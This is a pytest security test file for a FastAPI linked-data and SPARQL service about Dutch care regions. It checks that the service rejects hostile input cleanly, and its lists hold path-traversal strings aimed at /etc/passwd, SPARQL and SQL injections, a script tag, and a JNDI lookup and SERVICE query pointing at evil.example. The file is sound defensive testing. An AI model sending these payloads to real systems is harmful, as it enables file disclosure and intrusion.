"""Hostile input: traversal, injection, huge and nested queries, bad encodings, wrong content types.

Each is refused with a 4xx and a JSON body naming the problem (or, for text that is only data, answered
without effect); never a 5xx, never a traceback or a file from outside what is published.
"""

from __future__ import annotations

import logging

import pytest

LEAKS = ("[build-system]", "root:x:0:0", "Traceback", "File \"/", "def create_app", "site-packages")

TRAVERSALS = [
    "/doc/../../pyproject.toml", "/doc/%2e%2e/%2e%2e/pyproject.toml", "/doc/regio/..%2F..%2F..%2Fpyproject.toml",
    "/doc/..%2f..%2fetc%2fpasswd", "/download/../pyproject.toml", "/download/..%2F..%2Fpyproject.toml",
    "/download/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/download/....//....//etc/passwd", "/download/%00.ttl",
    "/queries/..%2F..%2Fpyproject.toml", "/queries/../app/main.py", "/queries/%2e%2e%2fqueries%2fregions.rq",
    "/queries/regions%00.rq", "/static/../pyproject.toml", "/static/%2e%2e/%2e%2e/pyproject.toml",
    "/static/..%2F..%2Fpyproject.toml", "/graph/../../pyproject.toml", "/graph/..%2F..%2Fetc%2Fpasswd",
    "/id/regio/..%2F..%2F..%2Fpyproject.toml", "/def/..%2F..%2Fpyproject.toml", "/regio/..%2F..%2Fpyproject.toml",
]

INJECTIONS = [
    "x' } ; DROP ALL ; #", "x\" } UNION { ?s ?p ?o } #", "> } SELECT * WHERE { ?s ?p ?o } #", "<http://evil.example/>",
    "?s ?p ?o", "\\u003e", "%00", "a\x00b", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>",
    "' OR '1'='1", "x" * 300, "🚑", "gooi-en-vechtstreek\nSERVICE <http://evil.example/sparql> {}",
]


def assert_clean_refusal(response, statuses=range(400, 500)) -> None:
    assert response.status_code in statuses, (response.status_code, response.text[:300])
    for leak in LEAKS:
        assert leak not in response.text, leak


def assert_json_problem(response) -> None:
    """A JSON body (JSON-LD from the linked-data routes) whose `detail` names the problem."""
    assert response.headers["content-type"].startswith(("application/json", "application/ld+json")), \
        response.headers["content-type"]
    assert isinstance(response.json()["detail"], (str, list)) and response.json()["detail"]


@pytest.mark.parametrize("path", TRAVERSALS)
def test_path_traversal_is_refused(client, path):
    response = client.get(path, headers={"accept": "application/json"})
    assert_clean_refusal(response)


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("template", [
    "/regions/{v}", "/regions/gooi-en-vechtstreek/{v}", "/compare?regions={v},midden-nederland",
    "/compare?regions=gooi-en-vechtstreek,midden-nederland&aspects={v}", "/themes/{v}", "/frameworks/{v}",
    "/queries/{v}", "/queries/region-plans?region={v}", "/queries/regions?format={v}", "/search?q={v}&lang={v}",
    "/sparql?query=SELECT * WHERE {{ ?s ?p ?o }} LIMIT 1&default-graph-uri={v}", "/id/regio/{v}", "/doc/{v}/{v}",
    "/doc/regio/{v}", "/graph/{v}", "/def/{v}", "/download/{v}",
])
def test_injection_in_every_parameter(client, template, value):
    from urllib.parse import quote

    response = client.get(template.replace("{v}", quote(value, safe="")), headers={"accept": "application/json"})
    assert response.status_code < 500, (response.status_code, response.text[:300])
    assert_clean_refusal(response, statuses=range(200, 500))
    if response.status_code >= 400:
        assert_json_problem(response)


def test_search_text_is_only_ever_search_words(client):
    """A search text shaped like SPARQL or FTS5 syntax is read as words: it finds what its words find."""
    widened = client.get("/search", params={"q": '"x") } UNION { ?resource ?p ?label } #'}).json()
    assert widened["total"] == client.get("/search", params={"q": '"x" UNION resource p label'}).json()["total"]


def test_a_huge_get_query_is_414(client):
    response = client.get("/sparql", params={"query": "SELECT * WHERE { ?s ?p ?o } #" + "x" * 10_000})
    assert_clean_refusal(response, {414})
    assert response.json()["limit"] == "IZA_MAX_URL_LENGTH"


def test_a_huge_posted_query_is_413(client):
    body = "SELECT * WHERE { ?s ?p ?o } #" + "x" * 1_100_000
    response = client.post("/sparql", content=body, headers={"content-type": "application/sparql-query"})
    assert_clean_refusal(response, {413})
    assert response.json()["limit"] == "IZA_MAX_BODY_BYTES"


def test_a_body_without_content_length_is_counted(client):
    chunks = (b"x" * 100_000 for _ in range(12))  # streamed: no Content-Length
    response = client.post("/sparql", content=chunks, headers={"content-type": "application/sparql-query"})
    assert_clean_refusal(response, {413})


@pytest.mark.parametrize("depth", [201, 500, 5000])
def test_a_deeply_nested_query_is_400(client, depth):
    query = "SELECT * WHERE " + "{" * depth + " ?s ?p ?o " + "}" * depth
    response = client.post("/sparql", content=query, headers={"content-type": "application/sparql-query"})
    assert_clean_refusal(response, {400})
    assert_json_problem(response)
    assert f"{depth} deep" in response.json()["detail"]


def test_a_query_nested_within_the_limit_is_answered(client):
    query = "SELECT * WHERE " + "{" * 60 + " ?s a <https://w3id.org/iza-kg/def/ZorgkantoorRegion> " + "}" * 60
    response = client.post("/sparql", content=query, headers={"content-type": "application/sparql-query"})
    assert response.status_code == 200 and len(response.json()["results"]["bindings"]) == 31


def test_deeply_nested_expressions_are_400(client):
    query = "SELECT * WHERE { FILTER(" + "(" * 3000 + "1" + ")" * 3000 + ") }"
    response = client.post("/sparql", data={"query": query})
    assert_clean_refusal(response, {400})


@pytest.mark.parametrize("path", ["/sparql?query=SELECT%20%FF", "/search?q=%C3%28%C3", "/regions/%FF%FE",
                                  "/queries/regions?x=%ED%A0%80"])
def test_invalid_utf8_in_the_url_is_400(client, path):
    response = client.get(path)
    assert_clean_refusal(response, {400})
    assert "UTF-8" in response.json()["detail"]


@pytest.mark.parametrize("content_type, body", [
    ("application/sparql-query", b"SELECT * WHERE { ?s ?p \xff\xfe }"),
    ("application/x-www-form-urlencoded", b"query=SELECT%20%FF"),
    ("application/x-www-form-urlencoded", b"query=SELECT \xc3\x28"),
])
def test_invalid_utf8_in_the_body_is_400(client, content_type, body):
    response = client.post("/sparql", content=body, headers={"content-type": content_type})
    assert_clean_refusal(response, {400})
    assert "UTF-8" in response.json()["detail"]


@pytest.mark.parametrize("content_type, body", [
    ("application/json", b'{"query": "SELECT * WHERE { ?s ?p ?o }"}'),
    ("text/plain", b"SELECT * WHERE { ?s ?p ?o }"),
    ("application/xml", b"<query/>"),
    ("", b"SELECT * WHERE { ?s ?p ?o }"),
    ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=query\r\n\r\nASK {}\r\n--x--"),
    ("multipart/form-data", b"garbage"),
    ("application/sparql-update", b"DROP ALL"),
])
def test_wrong_content_types_are_4xx(client, content_type, body):
    headers = {"content-type": content_type} if content_type else {}
    response = client.post("/sparql", content=body, headers=headers)
    if response.status_code == 200:  # multipart is a form too
        assert content_type.startswith("multipart/form-data; boundary")
        return
    assert_clean_refusal(response)
    assert_json_problem(response)


@pytest.mark.parametrize("method, path", [("POST", "/regions"), ("PUT", "/sparql"), ("DELETE", "/sparql"),
                                          ("PATCH", "/queries/regions"), ("POST", "/health")])
def test_other_methods_are_405(client, method, path):
    response = client.request(method, path, content=b"x")
    assert_clean_refusal(response, {405})
    assert_json_problem(response)


def test_bad_content_length_is_400(client):
    response = client.post("/sparql", content=b"ASK {}", headers={"content-type": "application/sparql-query",
                                                                    "content-length": "abc"})
    assert response.status_code == 400


def test_an_unexpected_error_is_a_json_500_and_its_traceback_is_logged(caplog):
    from fastapi.testclient import TestClient

    from app.core.config import Settings
    from app.main import create_app
    from tests.api.conftest import make_client  # noqa: F401  (same app factory as the API tests)

    app = create_app(Settings())

    @app.get("/boom")
    def boom():
        raise ValueError("secret internals /etc/passwd")

    with caplog.at_level(logging.ERROR, logger="iza_kg"):
        response = TestClient(app).get("/boom")
    assert response.status_code == 500
    assert response.json() == {"detail": "internal error; it has been logged"}
    assert "secret internals" not in response.text
    assert any("Traceback" in r.getMessage() and "secret internals" in r.getMessage() for r in caplog.records)


def test_the_result_byte_cap_is_422(client):
    from app.core.reliability import ReliabilitySettings

    app = client.app
    before = app.state.reliability
    app.state.reliability = ReliabilitySettings(**{**before.model_dump(), "max_result_bytes": 2_000})
    try:
        response = client.get("/sparql", params={"query": "SELECT * WHERE { ?s ?p ?o } LIMIT 500"})
    finally:
        app.state.reliability = before
    assert_clean_refusal(response, {422})
    assert response.json()["limit"] == "IZA_MAX_RESULT_BYTES"
